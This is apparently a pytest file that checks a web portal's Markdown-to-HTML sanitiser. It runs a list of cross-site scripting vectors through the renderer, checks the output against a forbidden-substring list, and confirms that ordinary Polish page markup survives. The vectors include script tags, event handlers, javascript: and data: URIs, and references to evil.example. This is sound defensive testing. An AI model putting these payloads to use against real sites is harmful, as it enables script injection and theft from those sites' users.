"""The sanitiser against a list of XSS vectors, and what it must keep."""

from __future__ import annotations

import pytest

from portal.pages.render import markdown_to_html
from portal.pages.sanitize import clean_html

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<p onclick="alert(1)">x</p>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<form action="https://evil.example"><input name=a></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!--<script>alert(1)</script>-->",
    '<a href="  javascript:alert(1)">x</a>',
    '<span lang="pl" onmouseover="alert(1)">x</span>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '![x](https://evil.example/track.png "t")',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

FORBIDDEN = (
    "<script",
    "javascript:",
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "<iframe",
    "<style",
    "style=",
    "data:text",
    "<object",
    "<embed",
    "<form",
    "<svg",
    "<img",
    "<base",
    "<meta",
    "vbscript:",
    "alert(1)</",
)


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_neutralised(vector: str) -> None:
    html = markdown_to_html(vector).lower()
    for bad in FORBIDDEN:
        assert bad not in html, (vector, html)


def test_script_text_is_dropped_not_shown() -> None:
    assert "alert" not in clean_html("<p>a</p><script>alert(1)</script><p>b</p>")


def test_keeps_what_pages_need() -> None:
    text = (
        'Intro with <span lang="pl">wywiad środowiskowy</span>.\n\n## Jak uzyskać wsparcie\n\n'
        "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "[kontakt](kontakt) [mail](mailto:a@example.org) [tel](tel:+48242361360) "
        "[bip](https://example.org/bip)\n"
    )
    html = markdown_to_html(text)
    assert '<span lang="pl">wywiad środowiskowy</span>' in html
    assert '<h2 id="jak-uzyskać-wsparcie">Jak uzyskać wsparcie</h2>' in html
    assert "<li>one</li>" in html and "<table>" in html and "<td>2</td>" in html
    for href in ("kontakt", "mailto:a@example.org", "tel:+48242361360", "https://example.org/bip"):
        assert f'href="{href}"' in html


def test_no_h1_from_markdown() -> None:
    assert "<h1" not in markdown_to_html("# Title\n\ntext")
